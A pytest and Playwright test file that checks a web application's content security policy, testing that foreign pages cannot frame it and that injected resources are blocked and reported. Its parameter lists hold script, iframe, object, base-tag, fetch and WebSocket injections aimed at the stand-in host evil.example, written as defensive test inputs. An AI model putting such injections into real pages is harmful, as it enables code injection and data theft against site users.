"""Catalogue H26, H28: what a browser does about our content policy."""

from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from urllib.parse import quote, unquote, urlsplit

import pytest
from playwright.sync_api import Page

SEEN = """new Promise(seen => {
    const look = () => window.breachesSeen ? seen() : setTimeout(look, 20); look();
})"""  # waiting by a function's text would itself be a breach


class Framing(BaseHTTPRequestHandler):
    """Another site on this machine, whose pages hold a frame with the address in their query."""

    def do_GET(self) -> None:
        """Answer with such a page."""
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(
            f'<link rel="icon" href="data:,"><iframe src="{unquote(urlsplit(self.path).query)}"></iframe>'.encode()
        )

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture
def foreign() -> Iterator[str]:
    """The address of the other site."""
    site = ThreadingHTTPServer(("127.0.0.1", 0), Framing)
    running = Thread(target=site.serve_forever)
    running.start()
    yield f"http://127.0.0.1:{site.server_port}/"
    site.shutdown()
    running.join()
    site.server_close()


@pytest.mark.parametrize("path", ["/sign-in", "/today", "/healthz", "/favicon.png"])
def test_h26_a_foreign_page_cannot_frame_us(
    page: Page, *, sign_in: Callable[[str], None], base_url: str, foreign: str, complaints: list[str], path: str
) -> None:
    sign_in("stone")
    with page.expect_console_message(lambda said: "frame-ancestors 'none'" in said.text):
        page.goto(f"{foreign}?{quote(base_url + path)}")
    page.evaluate("document.title")
    assert any(said.startswith(f"Framing '{base_url}/' violates") for said in complaints)
    complaints.clear()


def test_h26_the_other_site_does_frame_what_lets_itself_be_framed(page: Page, foreign: str) -> None:
    page.goto(f"{foreign}?{quote(foreign + '?about:blank')}")
    assert page.frames[1].url == f"{foreign}?about:blank"


def test_h28_a_breach_of_the_policy_is_seen_by_the_collector(page: Page, complaints: list[str]) -> None:
    page.goto("/sign-in")
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=https://evil.example/x.png>')")
    page.evaluate(SEEN)
    assert [said for said in complaints if said.startswith("content policy: img-src")] != []
    complaints.clear()


@pytest.mark.parametrize(
    "attempt",
    [
        "fetch('https://evil.example/')",
        "new WebSocket('wss://evil.example/')",
        "setTimeout('window.ran = true', 0)",
        "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example></iframe>')",
        "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
        "document.head.append(Object.assign(document.createElement('script'), {text: 'window.ran = true'}))",
        "document.body.append(Object.assign(document.createElement('object'), {data: 'https://evil.example/x'}))",
        "document.head.append(Object.assign(document.createElement('base'), {href: 'https://evil.example/'}))",
    ],
)
def test_h28_what_a_foreign_script_would_try_is_stopped(
    page: Page, *, sign_in: Callable[[str], None], complaints: list[str], attempt: str
) -> None:
    sign_in("stone")
    page.evaluate(f"try {{ Promise.resolve({attempt}).catch(() => 0) }} catch {{ }}")
    page.evaluate(SEEN)
    assert page.evaluate("window.ran") is None
    assert any(said.startswith("content policy: ") for said in complaints)
    complaints.clear()
